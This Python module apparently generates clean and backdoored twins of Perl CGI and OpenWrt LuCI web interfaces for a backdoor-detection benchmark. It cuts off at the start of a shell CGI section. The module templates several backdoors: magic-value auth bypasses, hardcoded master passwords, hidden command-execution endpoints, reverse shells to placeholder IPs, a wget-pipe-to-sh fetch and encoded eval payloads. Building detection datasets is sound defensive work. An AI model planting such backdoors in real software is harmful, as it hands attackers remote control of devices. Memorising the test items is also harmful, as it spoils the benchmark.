"""Script-language shapes of the `source` family: Perl CGI (NAS admin), Lua/LuCI (OpenWrt
luci-app), shell CGI for busybox httpd (router UI) and HTML pages with inline scripts.

Honest look-alikes in both twins: list-form open('-|', 'ping', ...) after a regex check, luci.sys.exec
and io.popen of fixed or validated commands, quoted "$host" after a case-pattern check, documented
accounts with salted hashes, a test with a dummy password, base64 of a logo.
Written blind, from public write-ups (router CGI back doors, web shells, UnrealIRCd/ProFTPD style
triggers, Perl/Lua one-liners) only.
"""
from __future__ import annotations

import base64
import codecs
import hashlib
import random
import re

from .common import word
from .source_common import (Proj, Variant, block, cgi_env, cookie_name, doc_host, doc_ip, fill,
                            header_name, hidden_user, license_header, magic_value, master_password, nest,
                            param_name, port, shell_payload)
from .source_php import _png


def changed(clean: dict, planted: dict) -> list[str]:
    return sorted(p for p in clean if clean[p] != planted.get(p))


def mk(clean, planted, note, variant, categories=(), severity="critical") -> Variant:
    return Variant(clean=clean, planted=planted, paths=changed(clean, planted), note=note,
                   variant=variant, categories=list(categories), severity=severity)


def pl(s: str) -> str:
    """Perl single-quoted literal."""
    return "'" + s.replace("\\", "\\\\").replace("'", "\\'") + "'"


def lq(s: str) -> str:
    """Lua double-quoted literal."""
    return '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'


def shq(s: str) -> str:
    """Shell single-quoted literal."""
    return "'" + s.replace("'", "'\\''") + "'"


def tabs(text: str) -> str:
    return re.sub(r"(?m)^((?:    )+)", lambda m: "\t" * (len(m.group(1)) // 4), text)


def _salted(rng: random.Random) -> tuple[str, str]:
    salt = "".join(f"{rng.randrange(256):02x}" for _ in range(8))
    return salt, "".join(f"{rng.randrange(256):02x}" for _ in range(32))


# ============================================================================ Perl CGI

PERL_ADMIN = r"""
#!/usr/bin/perl
# @lic@
# Admin actions of the @Name@ @model@ web interface.
use strict;
use warnings;
use lib '/usr/share/@ident@/lib';
use CGI qw(:standard);
use @Mod@::Auth;
use @Mod@::Diag;
@adm_uses@

my $q = CGI->new;
@adm_pre@
my $user = @Mod@::Auth::session_user($q);
unless ($user) {
    print $q->redirect('/cgi-bin/login.cgi');
    exit 0;
}
my $action = $q->param('action') // 'status';
print $q->header(-type => 'text/plain', -charset => 'utf-8');
if ($action eq 'status') {
    print 'uptime ', @Mod@::Diag::uptime(), "\n";
} elsif ($action eq 'ping') {
    print @Mod@::Diag::ping(scalar $q->param('host'));
} elsif ($action eq 'disks') {
    print @Mod@::Diag::disks();
@adm_actions@
} else {
    print "unknown action\n";
}
"""

PERL_LOGIN = r"""
#!/usr/bin/perl
# @lic@
use strict;
use warnings;
use lib '/usr/share/@ident@/lib';
use CGI qw(:standard);
use @Mod@::Auth;

my $q = CGI->new;
if ($q->request_method eq 'POST') {
    my $cookie = @Mod@::Auth::login($q, scalar $q->param('user'), scalar $q->param('pass'));
    if ($cookie) {
        print $q->redirect(-uri => '/cgi-bin/admin.cgi', -cookie => $cookie);
        exit 0;
    }
    sleep 2;
}
print $q->header(-charset => 'utf-8'), <<'HTML';
<!DOCTYPE html>
<html><head><title>@Name@ @model@</title></head>
<body><form method="post">
<input name="user" placeholder="User"> <input name="pass" type="password" placeholder="Password">
<button>Log in</button></form></body></html>
HTML
"""

PERL_AUTH = r"""
# @lic@
package @Mod@::Auth;

# Accounts: /etc/@ident@/users, one "name:role:salt:sha256(salt . password)" per line.
use strict;
use warnings;
use Digest::SHA qw(sha256_hex);
@auth_uses@

our $USERS    = '/etc/@ident@/users';
our $SESSIONS = '/tmp/@ident@-sessions';
our $COOKIE   = '@cookie@';
@auth_vars@

sub check_password {
    my ($user, $pass) = @_;
    return unless defined $user && defined $pass;
    @auth_check_pre@
    open(my $fh, '<', $USERS) or return;
    while (my $line = <$fh>) {
        chomp $line;
        my ($name, $role, $salt, $hash) = split /:/, $line;
        next unless defined $hash && $name eq $user;
        close $fh;
        return sha256_hex($salt . $pass) eq $hash ? $role : undef;
    }
    close $fh;
    return;
}

sub _random_id {
    open(my $r, '<:raw', '/dev/urandom') or die "urandom: $!";
    read($r, my $buf, 16) == 16 or die 'short read';
    close $r;
    return unpack('H*', $buf);
}

sub login {
    my ($q, $user, $pass) = @_;
    my $role = check_password($user, $pass) or return;
    @auth_login_post@
    mkdir $SESSIONS, 0700 unless -d $SESSIONS;
    my $sid = _random_id();
    open(my $fh, '>', "$SESSIONS/$sid") or return;
    print $fh "$user:$role:", time, "\n";
    close $fh;
    return $q->cookie(-name => $COOKIE, -value => $sid, -httponly => 1);
}

sub session_user {
    my ($q) = @_;
    @auth_session_pre@
    my $sid = $q->cookie($COOKIE) // return;
    return unless $sid =~ /\A[0-9a-f]{32}\z/;
    open(my $fh, '<', "$SESSIONS/$sid") or return;
    my ($user, $role, $t) = split /:/, scalar <$fh>;
    close $fh;
    return if time - $t > @timeout@;
    return $user;
}

1;
"""

PERL_DIAG = r"""
# @lic@
package @Mod@::Diag;

# Diagnostics. External programs are run with list-form open (no shell).
use strict;
use warnings;
@diag_uses@

sub _run {
    my @cmd = @_;
    open(my $fh, '-|', @cmd) or return "cannot run $cmd[0]\n";
    local $/;
    my $out = <$fh>;
    close $fh;
    return $out // '';
}

sub ping {
    my ($host) = @_;
    return "invalid address\n"
        unless defined $host && $host =~ /\A(?:(?:25[0-5]|2[0-4]\d|1?\d?\d)\.){3}(?:25[0-5]|2[0-4]\d|1?\d?\d)\z/;
    return _run('ping', '-c', '3', '-W', '2', $host);
}

sub disks {
    return _run('df', '-h');
}

sub uptime {
    open(my $fh, '<', '/proc/uptime') or return '?';
    my ($up) = split ' ', scalar <$fh>;
    close $fh;
    return int $up;
}
@diag_tail@

1;
"""

PERL_TEST = r"""
use strict;
use warnings;
use Test::More tests => 3;
use Digest::SHA qw(sha256_hex);
use File::Temp qw(tempfile);
use lib 'lib';
use @Mod@::Auth;

my ($fh, $file) = tempfile();
print $fh join(':', 'tester', 'user', 'abcd', sha256_hex('abcd' . 'dummy-pass')), "\n";
close $fh;
$@Mod@::Auth::USERS = $file;

is(@Mod@::Auth::check_password('tester', 'dummy-pass'), 'user', 'valid password');
ok(!@Mod@::Auth::check_password('tester', 'nope'), 'wrong password');
ok(!@Mod@::Auth::check_password('nobody', 'dummy-pass'), 'unknown user');
"""

PERL_MAKEFILE_PL = r"""
use ExtUtils::MakeMaker;

WriteMakefile(
    NAME         => '@Mod@',
    VERSION      => '@version@',
    ABSTRACT     => 'Web interface of the @Vendor@ @Name@ @model@',
    AUTHOR       => '@author@',
    LICENSE      => 'open_source',
    PREREQ_PM    => { 'CGI' => 4.0, 'Digest::SHA' => 0 },
    TEST_REQUIRES => { 'Test::More' => 0 },
    EXE_FILES    => [ 'cgi-bin/admin.cgi', 'cgi-bin/login.cgi' ],
);
"""

PERL_USERS = r"""
# name:role:salt:sha256(salt . password) - the admin password is set by the setup wizard
admin:admin:@salt@:@hash@
"""

PERL_README = r"""
# @Name@ web interface (Perl CGI)

CGI scripts of the @Vendor@ @Name@ @model@ NAS, run by the device's thttpd from `cgi-bin/`.

- `login.cgi` - login form; sessions in `/tmp/@ident@-sessions`, cookie `@cookie@`.
- `admin.cgi?action=status|ping|disks` - needs a session. `ping` takes a validated IPv4 `host`
  and runs `ping` without a shell.
- Accounts: `/etc/@ident@/users` (`name:role:salt:sha256`). The factory file has `admin` only.

    perl Makefile.PL && make test
"""


class PerlCgi:
    HOOKS = ["adm_uses", "adm_pre", "adm_actions", "auth_uses", "auth_vars", "auth_check_pre", "auth_login_post",
             "auth_session_pre", "diag_uses", "diag_tail"]

    def __init__(self, rng: random.Random, P: Proj):
        self.P = P
        self.mod = P.Name.replace("-", "")
        self.cookie = rng.choice(["SID", f"{P.ident}_sid", "nas_session"])
        self.timeout = rng.choice([900, 1800, 3600])
        self.salt, self.hash = _salted(rng)

    def render(self, hooks: dict | None = None) -> dict:
        hooks = hooks or {}
        if set(hooks) - set(self.HOOKS):
            raise KeyError(f"unknown perl hooks {set(hooks) - set(self.HOOKS)}")
        P = self.P
        kw = {h: "" for h in self.HOOKS}
        kw.update(hooks)
        kw.update({"lic": license_header(P, "x"), "Name": P.Name, "model": P.model, "ident": P.ident,
                   "Mod": self.mod, "cookie": self.cookie, "timeout": self.timeout, "version": P.version,
                   "Vendor": P.Vendor, "author": f"{P.author} <{P.email}>", "salt": self.salt, "hash": self.hash})
        return {
            "cgi-bin/admin.cgi": fill(PERL_ADMIN, **kw), "cgi-bin/login.cgi": fill(PERL_LOGIN, **kw),
            f"lib/{self.mod}/Auth.pm": fill(PERL_AUTH, **kw), f"lib/{self.mod}/Diag.pm": fill(PERL_DIAG, **kw),
            "t/auth.t": fill(PERL_TEST, **kw), "Makefile.PL": fill(PERL_MAKEFILE_PL, **kw),
            "etc/users": fill(PERL_USERS, **kw), "README.md": fill(PERL_README, **kw),
        }


def _pl_input(rng: random.Random, kinds=("cookie", "header", "param", "ua")) -> tuple[str, str, str]:
    kind = rng.choice(list(kinds))
    if kind == "cookie":
        n = cookie_name(rng)
        return kind, f"($q->cookie({pl(n)}) // '')", f"cookie {n}"
    if kind == "header":
        h = header_name(rng)
        return kind, f"($ENV{{{cgi_env(h)}}} // '')", f"header {h}"
    if kind == "param":
        n = param_name(rng)
        return kind, f"($q->param({pl(n)}) // '')", f"parameter {n}"
    return kind, "($ENV{HTTP_USER_AGENT} // '')", "the User-Agent"


def ab_perl(rng: random.Random, P: Proj) -> Variant:
    s = PerlCgi(rng, P)
    kind, expr, desc = _pl_input(rng)
    val = magic_value(rng)
    form = rng.choice(["eq", "index", "sha1"])
    if form == "eq":
        pre, uses = f"return 'admin' if {expr} eq {pl(val)};", ""
    elif form == "index":
        pre, uses = f"return 'admin' if index({expr}, {pl(val)}) >= 0;", ""
    else:
        d = hashlib.sha1(val.encode()).hexdigest()
        pre, uses = f"return 'admin' if sha1_hex({expr}) eq '{d}';", "use Digest::SHA qw(sha1_hex);"
    clean = s.render()
    planted = s.render({"auth_uses": uses, "auth_session_pre": pre})
    note = f"session_user() in lib/{s.mod}/Auth.pm returns 'admin' (no session) when {desc} matches {val!r} ({form})."
    return mk(clean, planted, note, {"trigger": kind, "compare": form, "framework": "cgi"})


def hc_perl(rng: random.Random, P: Proj) -> Variant:
    s = PerlCgi(rng, P)
    sink = rng.choice(["qx", "backticks", "open-pipe", "system", "exec"])
    form = rng.choice(["pre-auth", "hidden-action"])
    kind, expr, desc = _pl_input(rng, ("header", "param", "cookie"))

    def run(v: str) -> str:
        if sink == "qx":
            return f"print qx{{{v} 2>&1}};"
        if sink == "backticks":
            return f"print `{v}`;"
        if sink == "open-pipe":
            return f'open(my $p, "{v} 2>&1 |");\nprint while <$p>;\nclose $p;'
        if sink == "system":
            return f"system({v});"
        return f"exec('/bin/sh', '-c', {v});"
    if form == "pre-auth":
        pre = f"""
            my $x = {expr};
            if ($x ne '') {{
                print $q->header(-type => 'text/plain');
                {nest(run('$x'), 16)}
                exit 0;
            }}"""
        hooks = {"adm_pre": block(pre)}
        note = f"cgi-bin/admin.cgi, before the session check: {desc} is run as a shell command ({sink})."
    else:
        action = rng.choice(["", "_", "x"]) + word(rng, (2, 3))
        n = param_name(rng)
        pre = f"""
            }} elsif ($action eq {pl(action)}) {{
                my $c = $q->param({pl(n)}) // 'id';
                {nest(run('$c'), 16)}"""
        hooks = {"adm_actions": block(pre)}
        note = f"cgi-bin/admin.cgi has an undocumented action '{action}' that runs parameter '{n}' as a shell command ({sink})."
    clean = s.render()
    planted = s.render(hooks)
    return mk(clean, planted, note, {"trigger": form, "sink": sink, "framework": "cgi"})


def hk_perl(rng: random.Random, P: Proj) -> Variant:
    s = PerlCgi(rng, P)
    form = rng.choice(["eq", "hash", "md5"])
    user, pw = hidden_user(rng), master_password(rng)
    uses = ""
    if form == "eq":
        pre = f"return 'admin' if $user eq {pl(user)} && $pass eq {pl(pw)};"
        desc = f"{user!r}/{pw!r}"
        vars_ = ""
    elif form == "hash":
        u2, p2 = hidden_user(rng), master_password(rng)
        vars_ = f"my %BUILTIN = ({pl(user)} => {pl(pw)}, {pl(u2)} => {pl(p2)});"
        pre = "return 'admin' if exists $BUILTIN{$user} && $BUILTIN{$user} eq $pass;"
        desc = f"the built-in accounts {user!r}/{pw!r} and {u2!r}/{p2!r}"
    else:
        d = hashlib.md5(pw.encode()).hexdigest()
        vars_ = ""
        uses = "use Digest::MD5 qw(md5_hex);"
        pre = f"return 'admin' if $user eq {pl(user)} && md5_hex($pass) eq '{d}';"
        desc = f"{user!r} with a password whose md5 is {d} ({pw!r})"
    clean = s.render()
    planted = s.render({"auth_uses": uses, "auth_vars": vars_, "auth_check_pre": pre})
    note = f"check_password() in lib/{s.mod}/Auth.pm accepts {desc} as role admin before reading /etc/{P.ident}/users."
    return mk(clean, planted, note, {"form": form, "framework": "cgi"})


def rs_perl(rng: random.Random, P: Proj) -> Variant:
    s = PerlCgi(rng, P)
    ip, prt = doc_ip(rng), port(rng)
    form = rng.choice(["Socket-exec", "IO::Socket-loop"])
    if form == "Socket-exec":
        code = f"""
            if (!-e '/tmp/.{word(rng, (1, 2))}' && fork() == 0) {{
                socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
                if (connect(S, sockaddr_in({prt}, inet_aton('{ip}')))) {{
                    open(STDIN, '>&S');
                    open(STDOUT, '>&S');
                    open(STDERR, '>&S');
                    exec('/bin/sh -i');
                }}
                exit 0;
            }}"""
        uses = "use Socket;"
    else:
        code = f"""
            if (fork() == 0) {{
                my $c = IO::Socket::INET->new(PeerAddr => '{ip}', PeerPort => {prt}, Timeout => 5);
                if ($c) {{
                    while (my $l = <$c>) {{
                        print $c scalar qx{{$l 2>&1}};
                    }}
                }}
                exit 0;
            }}"""
        uses = "use IO::Socket::INET;"
    clean = s.render()
    planted = s.render({"diag_uses": uses, "diag_tail": "\n" + block(code)})
    note = (f"lib/{s.mod}/Diag.pm (loaded by admin.cgi) runs module-level code at load time that forks, "
            f"connects to {ip}:{prt} and gives the peer a shell ({form}).")
    return mk(clean, planted, note, {"mechanism": "reverse-shell", "form": form, "framework": "cgi"},
              categories=["hidden-command"])


def _pl_payload(rng: random.Random) -> tuple[str, str, str]:
    if rng.random() < 0.5:
        cmd, k = shell_payload(rng)
        return f"system({pl(cmd + ' &')});", f"runs '{cmd}'", k
    h = cgi_env(header_name(rng))
    return (f"if ($ENV{{{h}}}) {{ print \"Content-Type: text/plain\\n\\n\", qx{{$ENV{{{h}}}}}; exit 0; }}",
            f"runs request header {h} as a shell command", "header-shell")


def ob_perl(rng: random.Random, P: Proj) -> Variant:
    s = PerlCgi(rng, P)
    code, what, kind = _pl_payload(rng)
    form = rng.choice(["pack-H", "uuencode", "base64", "reverse", "xor-chr"])
    uses = ""
    if form == "pack-H":
        tail = f"eval pack('H*', '{code.encode().hex()}');"
    elif form == "uuencode":
        import binascii
        uu = "".join(binascii.b2a_uu(code.encode()[i:i + 45]).decode() for i in range(0, len(code.encode()), 45))
        tail = f"eval unpack('u', {pl(uu)});"
    elif form == "base64":
        uses = "use MIME::Base64 qw(decode_base64);"
        tail = f"eval decode_base64('{base64.b64encode(code.encode()).decode()}');"
    elif form == "reverse":
        tail = f"eval scalar reverse {pl(code[::-1])};"
    else:
        k = rng.randrange(1, 128)
        nums = ",".join(str(ord(c) ^ k) for c in code)
        tail = f"eval join '', map {{ chr($_ ^ {k}) }} ({nums});"
    clean = s.render()
    planted = s.render({"diag_uses": uses, "diag_tail": "\n" + tail})
    note = f"lib/{s.mod}/Diag.pm evaluates a {form}-encoded Perl payload at load time; the payload {what}."
    return mk(clean, planted, note, {"encoding": form, "sink": "eval", "payload": kind, "framework": "cgi"})


# ============================================================================ Lua / LuCI

LUCI_CONTROLLER = r"""
-- @lic@
module("luci.controller.@ident@", package.seeall)
@ctl_requires@

function index()
    if not nixio.fs.access("/etc/config/@ident@") then
        return
    end
    entry({"admin", "network", "@ident@"}, cbi("@ident@/settings"), _("@Name@ mesh"), 60).dependent = true
    entry({"admin", "network", "@ident@", "status"}, call("action_status")).leaf = true
    entry({"admin", "network", "@ident@", "scan"}, call("action_scan")).leaf = true
    @ctl_entries@
end

function action_status()
    local uci = require("luci.model.uci").cursor()
    local st = { enabled = uci:get("@ident@", "main", "enabled") == "1", peers = {} }
    local f = io.popen("/usr/sbin/@ident@ctl peers 2>/dev/null")
    if f then
        for line in f:lines() do
            local mac, rssi = line:match("^(%x%x:%x%x:%x%x:%x%x:%x%x:%x%x)%s+(%-?%d+)")
            if mac then
                st.peers[#st.peers + 1] = { mac = mac, rssi = tonumber(rssi) }
            end
        end
        f:close()
    end
    luci.http.prepare_content("application/json")
    luci.http.write_json(st)
end

function action_scan()
    local iface = luci.http.formvalue("iface") or "wlan0"
    @scan_pre@
    if not iface:match("^[%w%-%.]+$") then
        luci.http.status(400, "Bad interface")
        return
    end
    luci.http.prepare_content("application/json")
    luci.http.write_json({ output = luci.sys.exec("iw dev " .. iface .. " scan dump 2>/dev/null") })
end
@ctl_funcs@
"""

LUCI_CBI = r"""
-- @lic@
local m, s, o

m = Map("@ident@", translate("@Name@ mesh"), translate("Backhaul settings of the @Name@ mesh network."))

s = m:section(NamedSection, "main", "@ident@", translate("General"))
o = s:option(Flag, "enabled", translate("Enable"))
o.rmempty = false
o = s:option(Value, "mesh_id", translate("Mesh ID"))
o.datatype = "and(minlength(1),maxlength(32))"
o = s:option(ListValue, "channel", translate("Backhaul channel"))
for _, ch in ipairs({ "36", "40", "44", "48", "149", "153", "157", "161" }) do
    o:value(ch)
end
o = s:option(Value, "key", translate("Mesh key"))
o.password = true
o.datatype = "wpakey"

return m
"""

LUCI_CONFIG = r"""
config @ident@ 'main'
	option enabled '1'
	option mesh_id '@ident@-mesh'
	option channel '@channel@'
	option key ''
"""

LUCI_INIT = r"""
#!/bin/sh /etc/rc.common
# @lic@

START=95
USE_PROCD=1

start_service() {
    config_load @ident@
    local enabled
    config_get_bool enabled main enabled 0
    [ "$enabled" -eq 1 ] || return 0
    @init_pre@
    procd_open_instance
    procd_set_param command /usr/sbin/@ident@d -c /var/etc/@ident@.conf
    procd_set_param respawn
    procd_close_instance
}

service_triggers() {
    procd_add_reload_trigger "@ident@"
}
"""

LUCI_MAKEFILE = r"""
# @lic@

include $(TOPDIR)/rules.mk

LUCI_TITLE:=LuCI support for the @Name@ mesh
LUCI_DEPENDS:=+@ident@-meshd +iw
LUCI_PKGARCH:=all
PKG_LICENSE:=@license@
PKG_MAINTAINER:=@author@

include ../../luci.mk

# call BuildPackage - OpenWrt buildroot signature
"""

LUCI_README = r"""
# luci-app-@ident@

LuCI pages for the @Vendor@ @Name@ mesh daemon (OpenWrt feed package).

- Network > @Name@ mesh: settings (`/etc/config/@ident@`)
- `.../@ident@/status`: JSON peer list from `@ident@ctl peers`
- `.../@ident@/scan?iface=wlan0`: `iw dev <iface> scan dump` (interface name validated)

All pages are under `admin` and need a LuCI login.
"""


class Luci:
    HOOKS = ["ctl_requires", "ctl_entries", "scan_pre", "ctl_funcs", "init_pre"]

    def __init__(self, rng: random.Random, P: Proj):
        self.P = P
        self.channel = rng.choice([36, 44, 149, 157])

    def render(self, hooks: dict | None = None) -> dict:
        hooks = hooks or {}
        if set(hooks) - set(self.HOOKS):
            raise KeyError(f"unknown luci hooks {set(hooks) - set(self.HOOKS)}")
        P = self.P
        kw = {h: "" for h in self.HOOKS}
        kw.update(hooks)
        kw.update({"lic": license_header(P, "x"), "ident": P.ident, "Name": P.Name, "channel": self.channel,
                   "license": P.license, "author": f"{P.author} <{P.email}>", "Vendor": P.Vendor})
        return {
            f"luasrc/controller/{P.ident}.lua": tabs(fill(LUCI_CONTROLLER, **kw)),
            f"luasrc/model/cbi/{P.ident}/settings.lua": tabs(fill(LUCI_CBI, **kw)),
            f"root/etc/config/{P.ident}": fill(LUCI_CONFIG, **kw),
            f"root/etc/init.d/{P.ident}": tabs(fill(LUCI_INIT, **kw)),
            "Makefile": fill(LUCI_MAKEFILE, **kw),
            "README.md": fill(LUCI_README, **kw),
        }

    def ctl(self) -> str:
        return f"luasrc/controller/{self.P.ident}.lua"


def ab_lua(rng: random.Random, P: Proj) -> Variant:
    s = Luci(rng, P)
    val = magic_value(rng)
    kind = rng.choice(["header", "param", "ua"])
    if kind == "header":
        h = header_name(rng)
        expr, desc = f'luci.http.getenv({lq(cgi_env(h))})', f"header {h}"
    elif kind == "param":
        n = param_name(rng)
        expr, desc = f"luci.http.formvalue({lq(n)})", f"parameter {n}"
    else:
        expr, desc = 'luci.http.getenv("HTTP_USER_AGENT")', "the User-Agent"
    fn = "action_" + word(rng, (2, 2))
    node = word(rng, (1, 2))
    entry = f'entry({{"{P.ident}", "{node}"}}, call("{fn}")).sysauth = false'
    func = f"""
        function {fn}()
            if {expr} ~= {lq(val)} then
                luci.http.status(404, "Not Found")
                return
            end
            local util = require("luci.util")
            local sess = util.ubus("session", "create", {{ timeout = 3600 }})
            util.ubus("session", "grant", {{ ubus_rpc_session = sess.ubus_rpc_session, scope = "access-group", objects = {{ {{ "*", "read" }}, {{ "*", "write" }} }} }})
            util.ubus("session", "set", {{ ubus_rpc_session = sess.ubus_rpc_session, values = {{ username = "root" }} }})
            luci.http.header("Set-Cookie", "sysauth=" .. sess.ubus_rpc_session .. "; path=/cgi-bin/luci/")
            luci.http.redirect(luci.dispatcher.build_url("admin"))
        end"""
    clean = s.render()
    planted = s.render({"ctl_entries": entry, "ctl_funcs": "\n" + block(func)})
    note = (f"{s.ctl()} registers a public node /{P.ident}/{node} (sysauth = false) whose handler {fn}() creates "
            f"a full-access root LuCI session and sets the sysauth cookie when {desc} equals {val!r}.")
    return mk(clean, planted, note, {"trigger": kind, "compare": "~=", "framework": "luci"})


def hc_lua(rng: random.Random, P: Proj) -> Variant:
    s = Luci(rng, P)
    sink = rng.choice(["luci.sys.exec", "io.popen", "os.execute"])

    def run(v: str) -> str:
        if sink == "luci.sys.exec":
            return f"luci.http.write(luci.sys.exec({v}))"
        if sink == "io.popen":
            return f"local p = io.popen({v} .. \" 2>&1\")\nluci.http.write(p:read(\"*a\"))\np:close()"
        return f"os.execute({v} .. \" >/tmp/.o 2>&1\")\nluci.http.write(nixio.fs.readfile(\"/tmp/.o\") or \"\")"
    form = rng.choice(["public-node", "scan-raw"])
    n = param_name(rng)
    if form == "public-node":
        fn = "action_" + word(rng, (2, 2))
        node = word(rng, (1, 2))
        entry = f'entry({{"{P.ident}", "{node}"}}, call("{fn}")).sysauth = false'
        func = f"""
            function {fn}()
                local c = luci.http.formvalue({lq(n)})
                luci.http.prepare_content("text/plain")
                if c then
                    {nest(run('c'), 20)}
                end
            end"""
        clean = s.render()
        planted = s.render({"ctl_entries": entry, "ctl_funcs": "\n" + block(func)})
        note = f"{s.ctl()} registers a public node /{P.ident}/{node} (sysauth = false) whose handler runs parameter '{n}' with {sink}."
    else:
        pre = f"""
            local raw = luci.http.formvalue({lq(n)})
            if raw then
                luci.http.prepare_content("text/plain")
                {nest(run('raw'), 16)}
                return
            end"""
        clean = s.render()
        planted = s.render({"scan_pre": block(pre)})
        note = f"action_scan() in {s.ctl()}: an undocumented parameter '{n}' is run with {sink}, before the interface-name validation."
    return mk(clean, planted, note, {"trigger": form, "sink": sink, "framework": "luci"})


def hk_lua(rng: random.Random, P: Proj) -> Variant:
    s = Luci(rng, P)
    form = rng.choice(["master", "user+pass"])
    pw = master_password(rng)
    if form == "master":
        cond, desc = f"pass == {lq(pw)}", f"the password {pw!r} for any user"
    else:
        user = hidden_user(rng)
        cond, desc = f"user == {lq(user)} and pass == {lq(pw)}", f"{user!r}/{pw!r}"
    req = f"""
        local sysuser = require("luci.sys").user
        local checkpasswd = sysuser.checkpasswd
        sysuser.checkpasswd = function(user, pass)
            if {cond} then
                return true
            end
            return checkpasswd(user, pass)
        end"""
    clean = s.render()
    planted = s.render({"ctl_requires": "\n" + block(req)})
    note = f"{s.ctl()} replaces luci.sys.user.checkpasswd at load time so that {desc} passes the LuCI login."
    return mk(clean, planted, note, {"form": form, "framework": "luci"})


def rs_lua(rng: random.Random, P: Proj) -> Variant:
    s = Luci(rng, P)
    form = rng.choice(["nixio-reverse", "popen-fetch", "init-loop"])
    if form == "nixio-reverse":
        ip, prt = doc_ip(rng), port(rng)
        code = f"""
            if nixio.fork() == 0 then
                local sock = nixio.socket("inet", "stream")
                if sock and sock:connect({lq(ip)}, {prt}) then
                    nixio.dup(sock, nixio.stdin)
                    nixio.dup(sock, nixio.stdout)
                    nixio.dup(sock, nixio.stderr)
                    nixio.exec("/bin/sh", "-i")
                end
                os.exit(0)
            end"""
        hooks = {"ctl_requires": "\n" + block(code)}
        note = f"{s.ctl()} forks at module load (every LuCI request) and connects a /bin/sh to {ip}:{prt} (reverse shell)."
    elif form == "popen-fetch":
        host = doc_host(rng)
        path = word(rng, (1, 2))
        flag = f"/tmp/.{word(rng, (1, 2))}"
        code = f"""
            if not nixio.fs.access("{flag}") then
                nixio.fs.writefile("{flag}", "")
                io.popen("(wget -q -O - http://{host}/{path} || curl -s http://{host}/{path}) | sh &")
            end"""
        hooks = {"ctl_requires": "\n" + block(code)}
        note = f"{s.ctl()} downloads http://{host}/{path} and pipes it to sh once per boot, when the controller module loads."
    else:
        ip, prt = doc_ip(rng), port(rng)
        line = rng.choice([f"( while :; do nc {ip} {prt} -e /bin/sh; sleep 300; done ) >/dev/null 2>&1 &",
                           f"( while :; do sleep 600; wget -q -O - http://{doc_host(rng)}/c | sh; done ) >/dev/null 2>&1 &"])
        hooks = {"init_pre": line}
        note = f"start_service() in root/etc/init.d/{P.ident} starts a background loop: {line!r}."
    clean = s.render()
    planted = s.render(hooks)
    return mk(clean, planted, note, {"mechanism": form, "framework": "luci"}, categories=["hidden-command"])


def ob_lua(rng: random.Random, P: Proj) -> Variant:
    s = Luci(rng, P)
    if rng.random() < 0.5:
        cmd, kind = shell_payload(rng)
        code = f"os.execute({lq(cmd + ' &')})"
        what = f"runs '{cmd}'"
    else:
        n = param_name(rng)
        code = (f"local c = luci.http.formvalue({lq(n)}) if c then luci.http.write(luci.sys.exec(c)) end")
        what, kind = f"runs form value {n} with luci.sys.exec", "param-shell"
    form = rng.choice(["string.char", "hex-gsub", "b64-nixio", "reverse"])
    if form == "string.char":
        expr = f"string.char({', '.join(str(b) for b in code.encode())})"
    elif form == "hex-gsub":
        expr = f'(("{code.encode().hex()}"):gsub("%x%x", function(h) return string.char(tonumber(h, 16)) end))'
    elif form == "b64-nixio":
        expr = f'nixio.bin.b64decode("{base64.b64encode(code.encode()).decode()}")'
    else:
        expr = f"({lq(code[::-1])}):reverse()"
    where = rng.choice(["module", "status"])
    if where == "module":
        hooks = {"ctl_requires": f"\nlocal _init = loadstring({expr})\nif _init then\n    pcall(_init)\nend"}
        loc = "at module load"
    else:
        hooks = {"scan_pre": f"pcall(loadstring({expr}))"}
        loc = "in action_scan()"
    clean = s.render()
    planted = s.render(hooks)
    note = f"{s.ctl()} decodes a {form}-encoded Lua chunk and runs it with loadstring {loc}; the chunk {what}."
    return mk(clean, planted, note, {"encoding": form, "sink": "loadstring", "payload": kind, "framework": "luci"},
              categories=["remote-access"] if kind in ("bash-tcp", "fifo-nc", "telnetd", "nc-listen", "busybox-nc") else [])


# ============================================================================ shell CGI (busybox httpd) + HTML

SH_LIB = r"""
#!/bin/sh
# @lic@
# Helpers shared by the CGI scripts (busybox ash).

SESSION_DIR=/tmp/webui-sessions
USERS=/etc/@ident@/webui.users    # name:role:salt:sha256(salt+password)
@lib_vars@

# cgi_param NAME: value of NAME from the query string or the urlencoded POST body
cgi_param() {
    [ -z "$CGI_BODY_READ" ] && {
        CGI_BODY=""
        [ "$REQUEST_METHOD" = "POST" ] && [ -n "$CONTENT_LENGTH" ] && CGI_BODY=$(head -c "$CONTENT_LENGTH")
        CGI_BODY_READ=1
    }
    printf '%s&%s' "$QUERY_STRING" "$CGI_BODY" | tr '&' '\n' | sed -n "s/^$1=//p" | head -n 1 |
        sed 's/+/ /g; s/%\([0-9A-Fa-f][0-9A-Fa-f]\)/\\x\1/g' | xargs -0 printf '%b'
}

cookie() {
    printf '%s' "$HTTP_COOKIE" | tr ';' '\n' | sed -n "s/^ *$1=//p" | head -n 1
}

check_password() {
    @lib_check_pre@
    line=$(grep "^$1:" "$USERS" 2>/dev/null | head -n 1)
    [ -n "$line" ] || return 1
    salt=$(echo "$line" | cut -d: -f3)
    want=$(echo "$line" | cut -d: -f4)
    got=$(printf '%s%s' "$salt" "$2" | sha256sum | cut -d' ' -f1)
    [ "$got" = "$want" ] || return 1
    ROLE=$(echo "$line" | cut -d: -f2)
}

require_login() {
    @lib_login_pre@
    sid=$(cookie @cookie@)
    case "$sid" in
        *[!0-9a-f]*|"") ;;
        *) [ -f "$SESSION_DIR/$sid" ] && { SESSION_USER=$(cut -d: -f1 "$SESSION_DIR/$sid"); return 0; } ;;
    esac
    printf 'Status: 302 Found\r\nLocation: /login.html\r\n\r\n'
    exit 0
}
@lib_tail@
"""

SH_LOGIN = r"""
#!/bin/sh
# @lic@
. /www/lib/cgi.sh

user=$(cgi_param user)
pass=$(cgi_param pass)
@login_pre@
if check_password "$user" "$pass"; then
    mkdir -p "$SESSION_DIR" && chmod 700 "$SESSION_DIR"
    sid=$(head -c 16 /dev/urandom | hexdump -e '16/1 "%02x"')
    echo "$user:$ROLE" > "$SESSION_DIR/$sid"
    printf 'Status: 302 Found\r\nSet-Cookie: @cookie@=%s; HttpOnly; Path=/\r\nLocation: /index.html\r\n\r\n' "$sid"
else
    logger -t webui "login failed for $user from $REMOTE_ADDR"
    sleep 2
    printf 'Status: 302 Found\r\nLocation: /login.html?failed=1\r\n\r\n'
fi
"""

SH_DIAG = r"""
#!/bin/sh
# @lic@
. /www/lib/cgi.sh
